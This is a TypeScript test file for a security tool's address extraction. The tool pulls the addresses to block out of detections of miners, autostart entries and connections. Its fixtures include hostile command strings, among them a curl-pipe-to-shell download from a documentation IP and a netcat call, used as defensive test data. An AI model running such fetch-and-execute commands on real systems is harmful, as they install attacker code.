import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Detection, Examination } from '../../model/index.ts'
import { addressesOf, neverBlockedBy } from './named-addresses.ts'

const examination = (more: Partial<Examination>): Examination => ({
  verdict: 'confirmed',
  because: [],
  matches: [],
  memoryMatches: [],
  indicators: [],
  families: [],
  attack: [],
  ...more,
})
const detection = (more: Partial<Detection>): Detection => ({
  id: '0198a3f2-0000-7000-8000-000000000001',
  at: '2026-06-01T12:00:00Z',
  verdict: 'confirmed',
  level: 'high',
  title: 'A miner',
  because: [],
  subject: { kind: 'process', pid: 7, path: '/tmp/x' },
  chain: [],
  findings: [],
  families: [],
  attack: [],
  responses: [],
  afterMs: 1,
  ...more,
})
const held = () => ['203.0.113.9', '10.0.0.5', '127.0.0.1', '::1', '2001:db8::7', 'fe80::1']

for (const [what, more, expected] of [
  ['what its process talks to beyond the own networks', {}, ['203.0.113.9', '2001:db8::7']],
  [
    'a program of a package talks to its clients too: only what is named',
    { examination: examination({ ownership: 'owned', miningSession: 'login with a wallet to 198.51.100.3:3333' }) },
    ['198.51.100.3'],
  ],
  [
    'what is listed',
    {
      subject: { kind: 'connection', address: '198.51.100.8' },
      examination: examination({ indicators: [{ type: 'address', value: '198.51.100.8', source: 'list' }] }),
    },
    ['198.51.100.8'],
  ],
  [
    'what a command names; a version is no address',
    { subject: { kind: 'autostart', command: 'curl 198.51.100.7/x | sh # 1.2.3.4.5 300.1.1.1' } },
    ['198.51.100.7'],
  ],
  ['what this host itself or everybody is', { subject: { kind: 'autostart', command: 'nc 0.0.0.0 127.0.0.1' } }, []],
] as const)
  test(what, () => assert.deepEqual(addressesOf(detection(more as Partial<Detection>), held), expected))

test('addresses and networks that are never blocked', () => {
  const never = neverBlockedBy(['198.51.100.7', '203.0.113.0/24', '2001:db8::/32', '192.0.2.1/32'])
  for (const address of ['198.51.100.7', '203.0.113.200', '::ffff:203.0.113.1', '2001:db8:1::1', '192.0.2.1'])
    assert.equal(never(address), true, address)
  for (const address of ['198.51.100.8', '203.0.114.1', '2001:db9::1', '192.0.2.2']) assert.equal(never(address), false)
})
